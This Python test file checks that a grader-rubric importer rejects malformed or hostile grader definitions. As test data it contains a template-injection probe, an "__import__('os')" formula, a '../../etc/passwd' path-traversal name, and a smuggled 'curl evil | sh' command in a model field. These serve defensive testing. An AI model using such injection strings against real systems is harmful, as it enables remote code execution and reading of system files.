"""Documented graders, imported and scored beside what their documents promise; and graders that nobody should import."""

import json
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given as given_by
from hypothesis import settings
from hypothesis import strategies as st

from judge.errors import Misconfigured
from judge.exchange.openai_grader import KINDS
from judge.exchange.rubric_import import Imported, import_rubric
from tests.exchange.conftest import Given, imported
from tests.exchange.examples import EXAMPLES, UNSCORED, Case, Example

SMALL = {"type": "string_check", "name": "n", "input": "{{sample.output_text}}", "reference": "x", "operation": "eq"}
SCORE = {"type": "score_model", "name": "n", "model": "m", "input": [{"role": "user", "content": "{{sample.output_text}}"}]}
DEEP = "(" * 300 + "a" + ")" * 300


def made(grader: Any, name: str | None = None) -> Imported:
    return import_rubric(json.dumps(grader), name)


def multi(formula: str, **graders: Any) -> dict[str, Any]:
    return {"type": "multi", "name": "m", "graders": graders or {"a": SMALL}, "calculate_output": formula}


@pytest.mark.parametrize(
    ("grader", "says"),
    [
        pytest.param([], "wanted an object with 'type'", id="a-list"),
        pytest.param({**SMALL, "type": "endpoint"}, "one of string_check", id="unknown-type"),
        pytest.param({**SMALL, "colour": 1}, "colour", id="unknown-field"),
        pytest.param({**SMALL, "operation": "regex"}, "operation", id="unknown-operation"),
        pytest.param({**SMALL, "input": "{{ ''.__class__.__mro__ }}"}, "grader.input: wanted", id="template-injection"),
        pytest.param({**SMALL, "reference": "{{ item.x | attr('y') }}"}, "grader.reference: wanted", id="filter"),
        pytest.param({**SMALL, "name": "../../.."}, "give --name", id="a-name-without-letters"),
        pytest.param({key: value for key, value in SMALL.items() if key != "name"}, "give --name", id="no-name"),
        pytest.param({**SMALL, "input": "\ud800"}, "surrogate", id="surrogate"),
        pytest.param({**SCORE, "range": [1, 1]}, "ascending", id="empty-range"),
        pytest.param({**SCORE, "range": [0]}, "low, high", id="half-a-range"),
        pytest.param({**SCORE, "input": []}, "input", id="no-messages"),
        pytest.param({**SCORE, "input": [{"role": "user", "content": "{{ item.x }}"}]}, "never shown", id="no-response"),
        pytest.param(
            {**SCORE, "input": [{"role": "user", "content": {"type": "input_image", "image_url": "x"}}]},
            "input_image",
            id="image",
        ),
        pytest.param(
            {**SCORE, "input": [{"role": "user", "content": "{{sample.output_text}}{{ item['a\"b'] }}"}]}, "rename it", id="key"
        ),
        pytest.param({**SCORE, "type": "label_model", "labels": ["a"], "passing_labels": ["a"]}, "not all", id="all-pass"),
        pytest.param(
            {**SCORE, "type": "label_model", "labels": ["a", "A"], "passing_labels": ["a"]}, "labels", id="equal-labels"
        ),
        pytest.param(
            {**SCORE, "type": "label_model", "labels": ["a", "b"], "passing_labels": ["c"]}, "passing_labels", id="no-label"
        ),
        pytest.param(
            {"type": "python", "name": "p", "source": "import numpy\ndef grade(a, b): ..."}, "it imports numpy", id="package"
        ),
        pytest.param({"type": "python", "name": "p", "source": "x"}, "no function 'grade'", id="no-function"),
        pytest.param({"type": "python", "name": "p", "source": "def"}, "no Python", id="no-python"),
        pytest.param({"type": "python", "name": "p", "source": " " * 256_001}, "at most 256,000", id="long-source"),
        pytest.param(multi("a + b"), "calculate_output", id="unknown-name"),
        pytest.param(multi("1 / a"), "divide by zero", id="division"),
        pytest.param(multi("log(a)"), "logarithm of zero", id="logarithm"),
        pytest.param(multi("exp(exp(exp(exp(a + 5))))"), "finite", id="endless"),
        pytest.param(multi("0.5"), "wanted the name of a grader", id="constant"),
        pytest.param(multi("a.__class__"), "something else", id="attribute"),
        pytest.param(multi("__import__('os')"), "something else", id="call"),
        pytest.param(multi("a if a else 1"), "something else", id="condition"),
        pytest.param(multi(DEEP), "no formula", id="brackets"),
        pytest.param(multi("a" + "+a" * 600), "at most 1,000", id="long"),
        pytest.param(multi("-" * 990 + "a"), "calculate_output", id="signs"),
        pytest.param(multi("a", a=multi("b")), "another type than multi", id="nested"),
        pytest.param(multi("a", a=[SMALL]), "graders.a: wanted an object", id="a-list-inside"),
        pytest.param({**multi("a"), "graders": [SMALL]}, "graders", id="a-list-of-graders"),
    ],
)
def test_what_no_rubric_can_say_is_refused(grader: Any, says: str) -> None:
    with pytest.raises(Misconfigured) as fault:
        made(grader)
    assert says in str(fault.value)


@pytest.mark.parametrize("metric", ["bleu", "meteor", "cosine", "rouge_6"])
def test_a_metric_that_nobody_keeps_is_refused_with_the_line_to_edit(metric: str) -> None:
    grader = {key: value for key, value in SMALL.items() if key != "operation"}
    with pytest.raises(Misconfigured, match=r"grader\.evaluation_metric: .* write one of fuzzy_match, gleu"):
        made({**grader, "type": "text_similarity", "evaluation_metric": metric})


@pytest.mark.parametrize(
    ("text", "says"),
    [
        pytest.param("", "no JSON", id="empty"),
        pytest.param("[" * 100_000, "no JSON", id="deep"),
        pytest.param('{"a":' * 70 + "1" + "}" * 70, "64 levels", id="levels"),
        pytest.param('{"type": "multi", "type": "python"}', "twice", id="twice"),
        pytest.param('{"type": NaN}', "no JSON", id="nan"),
        pytest.param(" " * 2_000_001, "2,000,000 bytes", id="large"),
    ],
)
def test_what_is_no_json_is_refused(text: str, says: str) -> None:
    with pytest.raises(Misconfigured, match=says):
        import_rubric(text)


@pytest.mark.parametrize("name", ["../x", "Upper", "1", "a-b", "", "judge"])
def test_a_name_that_is_given_is_taken_as_it_is_or_refused(name: str) -> None:
    with pytest.raises(Misconfigured, match="name"):
        made(SMALL, name)


@pytest.mark.parametrize(
    ("name", "called"), [("../../etc/passwd", "etc_passwd"), ("__proto__", "proto"), ("7 up", "grade_7_up"), ("Café", "caf")]
)
def test_a_name_of_the_graders_own_leads_nowhere(name: str, called: str) -> None:
    assert made({**SMALL, "name": name}).name == called


def test_names_that_a_formula_has_a_use_for_are_changed() -> None:
    found = made(multi("log + judge + A_1", log=SMALL, judge=SMALL, A_1=SMALL))
    assert [check.name for check in found.rubric.checks] == ["log_grade", "judge_grade", "a_1"]
    assert found.rubric.reward == "log_grade + judge_grade + a_1"
    assert "graders.log is called log_grade here" in found.notes


def test_a_grader_that_does_not_count_is_left_out() -> None:
    found = made(multi("a", a=SMALL, b=SMALL))
    assert [check.name for check in found.rubric.checks] == ["a"]
    assert any("graders.b is not in calculate_output" in note for note in found.notes)


@pytest.mark.parametrize(("formula", "told"), [("2 * a", ["the reward runs from 0 to 2, as the grader's grade can"]), ("a", [])])
def test_a_range_other_than_the_usual_one_is_told(formula: str, told: list[str]) -> None:
    assert [note for note in made(multi(formula)).notes if note.startswith("the reward runs")] == told


@pytest.mark.parametrize("wrapped", [{"grader": SMALL}, {"model": "m", "method": {"reinforcement": {"grader": SMALL}}}])
def test_a_grader_is_found_in_a_request(wrapped: Any) -> None:
    assert made(wrapped).rubric == made(SMALL).rubric


CASES = [pytest.param(one, case, id=f"{one.name}-{at}") for one in EXAMPLES for at, case in enumerate(one.cases)]


@pytest.mark.parametrize(("example", "case"), CASES)
def test_documented_graders_give_what_their_documents_promise(given: Given, example: Example, case: Case) -> None:
    found = given(example, case)
    assert (found is None) == (case.expected is UNSCORED)
    assert found == (None if case.expected is None else pytest.approx(case.expected))


def test_there_are_enough_of_them() -> None:
    assert len(EXAMPLES) >= 30
    assert {one.grader["type"] for one in EXAMPLES} == set(KINDS)


@pytest.mark.parametrize("example", EXAMPLES, ids=lambda one: one.name)
def test_an_empty_response_gets_the_lowest_reward_and_it_is_said(given: Given, tmp_path: Path, example: Example) -> None:
    found = imported(example.grader, tmp_path)
    assert given(example, Case("", {}, 0)) == found.rubric.range.low
    assert any(note.startswith(f"an empty response gets {found.rubric.range.low:g}") for note in found.notes)


JSON = st.recursive(
    st.none()
    | st.booleans()
    | st.integers()
    | st.floats(allow_nan=False)
    | st.text(max_size=20)
    | st.sampled_from(["{{ item.x }}", "{{", "{%"]),
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=8), inner, max_size=3),
    max_leaves=8,
)
FIELDS = st.sampled_from(sorted({field for kind in KINDS.values() for field in kind.model_fields} - {"source"}))


@settings(deadline=None, max_examples=200)
@given_by(
    st.sampled_from([SMALL, SCORE, multi("a"), {**SCORE, "type": "label_model", "labels": ["a", "b"], "passing_labels": ["a"]}]),
    FIELDS,
    JSON,
)
def test_any_value_in_a_grader_is_read_or_refused(grader: dict[str, Any], field: str, value: Any) -> None:
    try:
        found = made({**grader, field: value})
    except Misconfigured:
        return
    assert found.rubric.name == found.name


def test_a_note_speaks_with_one_voice() -> None:
    """A name of the grader's author is data: it ends no line, and a command with it runs nothing else."""
    messages = [{"role": "user", "content": "{{sample.output_text}}"}]
    one = {"type": "score_model", "name": "one", "model": "m; curl evil | sh", "input": messages}
    other = {"type": "string_check", "input": "{{sample.output_text}}", "reference": "x", "operation": "eq"}
    multi = {"type": "multi", "name": "m", "graders": {"a": one, "b\nrubrics/ok.yaml": other}, "calculate_output": "a"}
    notes = import_rubric(json.dumps(multi)).notes
    assert not any("\n" in note for note in notes)
    assert any("--model 'm; curl evil | sh' asks the same" in note for note in notes)
